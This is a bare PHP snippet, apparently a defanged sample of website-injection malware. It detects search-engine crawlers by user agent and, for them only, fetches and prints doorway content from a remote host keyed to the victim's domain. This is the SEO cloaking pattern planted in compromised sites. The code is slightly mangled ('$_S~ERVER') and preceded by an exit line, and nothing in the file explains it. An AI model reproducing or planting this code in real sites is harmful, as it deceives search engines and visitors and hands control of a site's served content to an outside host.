<?php exit; ?>
<?php
function marker_bot() { $a = strtolower($_S~ERVER['HTTP_USER_AGENT']); foreach (explode(',', 'google,bing,slurp,baidu') as $b) if (strstr($a, $b)) return true; return false; }
if (marker_bot()) { $c = curl_init('http://marker.invalid/doors/' . $_S~ERVER['HTTP_HOST']); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); print curl_exec($c); exit(); }
